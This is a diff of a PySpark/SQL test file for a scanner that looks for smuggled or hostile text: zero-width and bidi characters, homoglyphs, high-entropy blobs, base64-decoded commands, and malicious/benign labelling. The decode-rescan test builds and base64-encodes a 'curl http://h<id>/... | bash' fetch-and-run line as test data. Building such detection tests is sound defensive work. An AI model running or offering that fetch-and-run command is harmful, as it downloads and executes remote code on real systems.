@@ -212,12 +212,12 @@ def _query(sql: str | None = None):
 
 # ---- text functions ----
 def _smuggled() -> Column:
-    return F.concat(F.substring("text", 1, 40), F.decode(F.unhex(F.lit("E2808B")), "UTF-8"), F.substring("text", 41, 60), F.when(F.col("doc_id") % 3 == 0, F.decode(F.unhex(F.lit("E280AE")), "UTF-8")).otherwise(""))
+    return F.concat(F.substring("text", 1, 40), F.decode(F.unhex(F.lit("E2808B")), "UTF-8"), F.substr("text", F.lit(41)), F.when(F.col("doc_id") % 3 == 0, F.decode(F.unhex(F.lit("E280AE")), "UTF-8")).otherwise(""))
 
 
 
-@_query(r"""WITH x AS (SELECT doc_id, substr(text, 1, 40) || chr(8203) || substr(text, 41, 60) || CASE WHEN doc_id % 3 = 0 THEN chr(8238) ELSE '' END AS t FROM documents)
-SELECT doc_id, len(regexp_extract_all(t, '[\x{200B}-\x{200F}\x{202A}-\x{202E}]'))::INT AS n_invisible, regexp_replace(t, '[\x{200B}-\x{200F}\x{202A}-\x{202E}]', '', 'g') AS clean FROM x""")
+@_query(r"""WITH x AS (SELECT doc_id, substr(text, 1, 40) || chr(8203) || substr(text, 41) || CASE WHEN doc_id % 3 = 0 THEN chr(8238) ELSE '' END AS t FROM documents)
+SELECT doc_id, len(regexp_extract_all(t, '[\x{AD}\x{200B}-\x{200F}\x{202A}-\x{202E}\x{2060}-\x{2064}\x{2066}-\x{206F}\x{FEFF}\x{E0000}-\x{E007F}]'))::INT AS n_invisible, regexp_replace(t, '[\x{AD}\x{200B}-\x{200F}\x{202A}-\x{202E}\x{2060}-\x{2064}\x{2066}-\x{206F}\x{FEFF}\x{E0000}-\x{E007F}]', '', 'g') AS clean FROM x""")
 def invisible_scan(spark: SparkSession, sf: str) -> DataFrame:
     x = table(spark, sf, "documents").select("doc_id", _smuggled().alias("t"))
     return x.select("doc_id", tx.count_invisible(F.col("t")).alias("n_invisible"), tx.strip_invisible(F.col("t")).alias("clean"))
@@ -225,31 +225,31 @@ def invisible_scan(spark: SparkSession, sf: str) -> DataFrame:
 
 @_query()
 def nfkc_fold(spark: SparkSession, sf: str) -> DataFrame:
-    wide = F.translate(F.substring("text", 1, 80), "abcdefgh", "ａｂｃｄｅｆｇｈ")
-    return table(spark, sf, "documents").select("doc_id", tx.nfkc(wide).alias("folded"), (tx.nfkc(wide) == tx.nfkc(F.substring("text", 1, 80))).alias("same"))
+    wide = F.translate("text", "abcdefgh", "ａｂｃｄｅｆｇｈ")
+    return table(spark, sf, "documents").select("doc_id", tx.nfkc(wide).alias("folded"), (tx.nfkc(wide) == tx.nfkc(F.col("text"))).alias("same"))
 
 
-@_query(rf"""SELECT doc_id, translate(translate(substr(text, 1, 60), 'aeo', 'аео'), '{tx.CONFUSABLE_FROM}', '{tx.CONFUSABLE_TO}') AS latin FROM documents""")
+@_query(rf"""SELECT doc_id, translate(translate(text, 'aeo', 'аео'), '{tx.CONFUSABLE_FROM}', '{tx.CONFUSABLE_TO}') AS latin FROM documents""")
 def deconfuse(spark: SparkSession, sf: str) -> DataFrame:
-    return table(spark, sf, "documents").select("doc_id", tx.deconfuse(F.translate(F.substring("text", 1, 60), "aeo", "аео")).alias("latin"))
+    return table(spark, sf, "documents").select("doc_id", tx.deconfuse(F.translate("text", "aeo", "аео")).alias("latin"))
 
 
-@_query(r"""WITH x AS (SELECT doc_id, substr(text, 1, 100) || CASE doc_id % 3 WHEN 0 THEN ' cйrl' WHEN 1 THEN ' пока' ELSE '' END AS t FROM documents)
+@_query(r"""WITH x AS (SELECT doc_id, text || CASE doc_id % 3 WHEN 0 THEN ' cйrl' WHEN 1 THEN ' пока' ELSE '' END AS t FROM documents)
 SELECT doc_id, list_filter(regexp_extract_all(t, '[A-Za-z\x{400}-\x{4FF}\x{370}-\x{3FF}\x{2010}-\x{2015}]{2,}'), lambda w: regexp_matches(w, '[A-Za-z]') AND regexp_matches(w, '[\x{370}-\x{4FF}]'))[1] AS token FROM x""")
 def homoglyph_tokens(spark: SparkSession, sf: str) -> DataFrame:
-    t = F.concat(F.substring("text", 1, 100), F.when(F.col("doc_id") % 3 == 0, " cйrl").when(F.col("doc_id") % 3 == 1, " пока").otherwise(""))
+    t = F.concat("text", F.when(F.col("doc_id") % 3 == 0, " cйrl").when(F.col("doc_id") % 3 == 1, " пока").otherwise(""))
     return table(spark, sf, "documents").select("doc_id", tx.mixed_script_token(t).alias("token"))
 
 
-@_query(r"SELECT doc_id, trim(regexp_replace(substr(text, 1, 300), '\s+', ' ', 'g')) AS line FROM documents")
+@_query(r"SELECT doc_id, trim(regexp_replace(text, '[\s\x0B\x1C-\x1F\x{85}\p{Z}]+', ' ', 'g')) AS line FROM documents")
 def collapse_spaces(spark: SparkSession, sf: str) -> DataFrame:
-    return table(spark, sf, "documents").select("doc_id", tx.collapse_ws(F.substring("text", 1, 300)).alias("line"))
+    return table(spark, sf, "documents").select("doc_id", tx.collapse_ws(F.col("text")).alias("line"))
 
 
 def _blobbed() -> Column:
-    return F.concat(F.substring("text", 1, 200), F.lit(" "), F.repeat(F.md5(F.col("doc_id").cast("string").cast("binary")), (F.col("doc_id") % 8).cast("int")), F.when(F.col("doc_id") % 2 == 0, F.lit("ABCDEFGHIJKLMNOPQRSTUVWXYZ")).otherwise(""))
+    return F.concat("text", F.lit(" "), F.repeat(F.md5(F.col("doc_id").cast("string").cast("binary")), (F.col("doc_id") % 8).cast("int")), F.when(F.col("doc_id") % 2 == 0, F.lit("ABCDEFGHIJKLMNOPQRSTUVWXYZ")).otherwise(""))
 
-_BLOBBED_SQL = "substr(text, 1, 200) || ' ' || repeat(md5(doc_id::VARCHAR), (doc_id % 8)::INT) || CASE WHEN doc_id % 2 = 0 THEN 'ABCDEFGHIJKLMNOPQRSTUVWXYZ' ELSE '' END"
+_BLOBBED_SQL = "text || ' ' || repeat(md5(doc_id::VARCHAR), (doc_id % 8)::INT) || CASE WHEN doc_id % 2 = 0 THEN 'ABCDEFGHIJKLMNOPQRSTUVWXYZ' ELSE '' END"
 
 
 @_query(rf"""WITH x AS (SELECT doc_id, unnest(regexp_extract_all({_BLOBBED_SQL}, '[A-Za-z0-9+/=_-]{{120,}}')) AS run FROM documents),
@@ -261,23 +261,22 @@ def entropy_blobs(spark: SparkSession, sf: str) -> DataFrame:
     return x.select("doc_id", F.length("run").alias("n"), F.round(tx.entropy(F.col("run")), 9).alias("bits"), blob.isNotNull().alias("hit"))
 
 
-@_query("""SELECT doc_id, CASE WHEN doc_id % 4 = 3 THEN [] WHEN doc_id % 4 = 2 THEN ['curl http://h' || doc_id::VARCHAR || '/aaaaaaaaaaaaaaaaaaaaaaaaaaaa | bash', 'plain bytes in hex digits'] ELSE ['curl http://h' || doc_id::VARCHAR || '/aaaaaaaaaaaaaaaaaaaaaaaaaaaa | bash'] END AS texts,
-  CASE WHEN doc_id % 4 = 3 THEN NULL ELSE 'curl http://h' || doc_id::VARCHAR || '/aaaaaaaaaaaaaaaaaaaaaaaaaaaa | bash' END AS hit FROM documents""")
+@_query()
 def decode_rescan(spark: SparkSession, sf: str) -> DataFrame:
     plain = F.concat(F.lit("curl http://h"), F.col("doc_id").cast("string"), F.lit("/aaaaaaaaaaaaaaaaaaaaaaaaaaaa | bash"))
     hexed = F.lower(F.hex(F.lit("plain bytes in hex digits").cast("binary")))
-    t = F.when(F.col("doc_id") % 4 == 3, F.lit("nothing")).otherwise(F.concat(F.lit("run "), F.base64(plain.cast("binary")), F.when(F.col("doc_id") % 4 == 2, F.concat(F.lit(" "), F.substring(hexed, 1, 50))).otherwise("")))
+    t = F.when(F.col("doc_id") % 4 == 3, F.col("text")).otherwise(F.concat("text", F.lit(" run "), F.base64(plain.cast("binary")), F.when(F.col("doc_id") % 4 == 2, F.concat(F.lit(" "), F.substring(hexed, 1, 50))).otherwise("")))
     x = table(spark, sf, "documents").select("doc_id", t.alias("t"))
     # a run of hexadecimal digits is a run of base64 digits too, and comes first as such; keep what is readable
     got = F.filter(tx.decoded(F.col("t")), lambda s: s.rlike(r"\A[\x20-\x7E]+\z"))
     return x.select("doc_id", got.alias("texts"), F.get(F.filter(F.transform(tx.decoded(F.col("t")), lambda s: tx.first_match(s, C.PRIMITIVE)), lambda m: m.isNotNull()), F.lit(0)).alias("hit"))
 
 
-@_query(r"""WITH x AS (SELECT doc_id, substr(text, 1, 2000) AS t FROM documents), y AS (SELECT doc_id, regexp_extract_all(t, '(?i)the') AS m, string_split_regex(t, '(?i)the') AS g FROM x),
+@_query(r"""WITH x AS (SELECT doc_id, text AS t FROM documents), y AS (SELECT doc_id, regexp_extract_all(t, '(?i)the') AS m, string_split_regex(t, '(?i)the') AS g FROM x),
 z AS (SELECT doc_id, g, m, unnest(range(1, len(m) + 1)) AS i FROM y)
 SELECT doc_id, (list_sum(list_transform(g[1:i], lambda s: length(s))) + coalesce(list_sum(list_transform(m[1:i-1], lambda s: length(s))), 0))::INT AS start, m[i] AS "match" FROM z""")
 def match_offsets(spark: SparkSession, sf: str) -> DataFrame:
-    x = table(spark, sf, "documents").select("doc_id", F.substring("text", 1, 2000).alias("t"))
+    x = table(spark, sf, "documents").select("doc_id", F.col("text").alias("t"))
     return x.select("doc_id", F.inline(tx.match_places(F.col("t"), "the")))
 
 
@@ -304,9 +303,9 @@ def file_routing(spark: SparkSession, sf: str) -> DataFrame:
     return directory.route(files).select("p_partkey", "ext", "kind")
 
 
-@_query("""SELECT doc_id::VARCHAR AS id, 'malicious' AS label, lang AS attack FROM documents WHERE doc_id % 7 = 0 UNION ALL SELECT page_id::VARCHAR, 'benign', NULL FROM pages""")
+@_query("""SELECT doc_id::VARCHAR AS id, 'malicious' AS label, lang AS attack FROM documents UNION ALL SELECT page_id::VARCHAR, 'benign', NULL FROM pages""")
 def corpus_union(spark: SparkSession, sf: str) -> DataFrame:
-    a = table(spark, sf, "documents").where("doc_id % 7 = 0").select(F.col("doc_id").cast("string").alias("id"), F.col("lang").alias("attack"))
+    a = table(spark, sf, "documents").select(F.col("doc_id").cast("string").alias("id"), F.col("lang").alias("attack"))
     b = table(spark, sf, "pages").select(F.col("page_id").cast("string").alias("id"), F.lit(None).cast("string").alias("label"))
     return tables.union_corpora([(a, "malicious"), (b, "benign")]).select("id", "label", "attack")
 
@@ -327,10 +326,10 @@ def pattern_category(spark: SparkSession, sf: str) -> DataFrame:
     return table(spark, sf, "documents").select(p.alias("p")).select("p", tables.category_of_pattern(F.col("p")).alias("category"))
 
 
-@_query("""SELECT doc_id, substr(text, 1, 30) AS head FROM (SELECT doc_id, text, row_number() OVER (PARTITION BY lower(substr(text, 1, 120)) ORDER BY doc_id) AS k FROM documents WHERE length(text) >= 15) WHERE k = 1""")
+@_query("""SELECT doc_id, md5(text) AS digest FROM (SELECT doc_id, text, row_number() OVER (PARTITION BY lower(substr(text, 1, 120)) ORDER BY doc_id) AS k FROM documents WHERE length(text) >= 15) WHERE k = 1""")
 def prefix_dedup(spark: SparkSession, sf: str) -> DataFrame:
-    x = table(spark, sf, "documents").where(F.length("text") >= 15).select("doc_id", F.lower(F.substring("text", 1, 120)).alias("key"), F.substring("text", 1, 30).alias("head"))
-    return x.groupBy("key").agg(F.min(F.struct("doc_id", "head")).alias("f")).select("f.doc_id", "f.head")
+    x = table(spark, sf, "documents").where(F.length("text") >= 15).select("doc_id", F.lower(F.substring("text", 1, 120)).alias("key"), F.md5(F.col("text").cast("binary")).alias("digest"))
+    return x.groupBy("key").agg(F.min(F.struct("doc_id", "digest")).alias("f")).select("f.doc_id", "f.digest")
 
 
 @_query("""SELECT doc_id FROM documents WHERE doc_id NOT IN (SELECT doc_id FROM (SELECT doc_id, row_number() OVER (PARTITION BY source ORDER BY doc_id) AS k FROM documents) WHERE (k - 1) % 5 = 0)""")
@@ -362,7 +361,7 @@ def json_flatten(spark: SparkSession, sf: str) -> DataFrame:
 @_query()
 def wordpiece_encode(spark: SparkSession, sf: str) -> DataFrame:
     vocab = {t: i for i, t in enumerate(["[PAD]", "[UNK]", "[CLS]", "[SEP]", *"abcdefghijklmnopqrstuvwxyz.,!|", *[f"##{c}" for c in "abcdefghijklmnopqrstuvwxyz"], "the", "##the", "##ing", "and"])}
-    x = table(spark, sf, "documents").select("doc_id", wordpiece.encode(F.col("text"), vocab, 128).alias("e"))
+    x = table(spark, sf, "documents").select("doc_id", wordpiece.encode(F.col("text"), vocab).alias("e"))
     return x.select("doc_id", F.array_join(F.transform("e.ids", lambda i: i.cast("string")), " ").alias("ids"), F.aggregate("e.mask", F.lit(0), lambda a, b: a + b).alias("n"))
 
 
@@ -598,37 +597,37 @@ def determinism_hash(spark: SparkSession, sf: str) -> DataFrame:
     return metrics.fingerprint(rule_results(spark, sf), "skill_id", "verdict", "category", "r")
 
 
-@_query(f"WITH {_SCORED}, w AS (SELECT skill_id FROM results WHERE right(skill_id, 1) <> '3') SELECT skill_id, true AS missing, false AS surplus FROM salted ANTI JOIN w USING (skill_id)")
+@_query(f"WITH {_SCORED}, w AS (SELECT skill_id FROM results WHERE verdict <> 'benign') SELECT skill_id, true AS missing, false AS surplus FROM salted ANTI JOIN w USING (skill_id)")
 def reconcile_lines(spark: SparkSession, sf: str) -> DataFrame:
-    return metrics.reconcile(salted(spark, sf), rule_results(spark, sf).where(~F.col("skill_id").endswith("3")))
+    return metrics.reconcile(salted(spark, sf), rule_results(spark, sf).where("verdict <> 'benign'"))
 
 
 # ---- linear model ----
-_TERMS = r"""toks AS (SELECT doc_id, regexp_extract_all(regexp_replace(regexp_replace(regexp_replace(lower(payload), 'glot\.io', ' ', 'g'), '\b\d{1,3}(?:\.\d{1,3}){3}\b', ' ', 'g'), '[0-9a-f]{12,}', ' ', 'g'), '\b\w\w+\b') AS t FROM salted),
+_TERMS = r"""toks AS (SELECT doc_id, regexp_extract_all(regexp_replace(regexp_replace(regexp_replace(lower(body), 'glot\.io', ' ', 'g'), '\b\d{1,3}(?:\.\d{1,3}){3}\b', ' ', 'g'), '[0-9a-f]{12,}', ' ', 'g'), '[\p{L}\p{M}\p{Nd}\p{Nl}\p{Pc}]{2,}') AS t FROM salted),
 g AS (SELECT doc_id, unnest(list_concat(t, list_transform(range(1, len(t)), lambda i: t[i] || ' ' || t[i + 1]))) AS term FROM toks),
 counts AS (SELECT doc_id, term, count(*) AS n FROM g GROUP BY ALL), total AS (SELECT count(*) AS d FROM salted),
 df AS (SELECT term, count(*) AS df, sum(n) AS tf FROM counts GROUP BY term HAVING count(*) >= 2),
 vocab AS (SELECT term, ln((1.0::DOUBLE + d) / (1 + df)) + 1 AS idf FROM (SELECT * FROM df ORDER BY tf DESC, term LIMIT 300), total)"""
 
 
-def _payload_counts(spark: SparkSession, sf: str) -> tuple[DataFrame, DataFrame]:
-    x = salted(spark, sf).select("doc_id", "skill_id", "payload")
-    counts = linear.term_counts(x, "payload", "doc_id")
+def _body_counts(spark: SparkSession, sf: str) -> tuple[DataFrame, DataFrame]:
+    x = salted(spark, sf).select("doc_id", "skill_id", "body")
+    counts = linear.term_counts(x, "body", "doc_id")
     return x, linear.vocabulary(counts, x.count(), 2, 300)
 
 
 @_query(f"WITH {_SALTED}, {_TERMS} SELECT term, round(idf, 9) AS idf FROM vocab")
 def tfidf_terms(spark: SparkSession, sf: str) -> DataFrame:
-    _, vocab = _payload_counts(spark, sf)
+    _, vocab = _body_counts(spark, sf)
     return vocab.select("term", F.round("idf", 9).alias("idf"))
 
 
 @_query(f"WITH {_SALTED}, {_TERMS}, m AS (SELECT term, idf, (('0x' || substr(md5(term), 1, 6))::BIGINT / 8388608.0::DOUBLE - 1) * 4 AS coef FROM vocab), d AS (SELECT doc_id, sum(n * idf * coef) / sqrt(sum(n * idf * n * idf)) AS d FROM counts JOIN m USING (term) GROUP BY doc_id) SELECT doc_id, round(1 / (1 + exp(-(coalesce(d, 0) - 0.5::DOUBLE))), 9) AS ml_score FROM salted LEFT JOIN d USING (doc_id)")
 def linear_score(spark: SparkSession, sf: str) -> DataFrame:
-    x, vocab = _payload_counts(spark, sf)
+    x, vocab = _body_counts(spark, sf)
     coef = (F.conv(F.substring(F.md5(F.col("term").cast("binary")), 1, 6), 16, 10).cast("double") / 8388608.0 - 1) * 4
     model = linear.Model(vocab.withColumn("coef", coef), -0.5)
-    return linear.predict(x, model, "payload", "doc_id").withColumn("ml_score", F.round("ml_score", 9))
+    return linear.predict(x, model, "body", "doc_id").withColumn("ml_score", F.round("ml_score", 9))
 
 
 @_query()
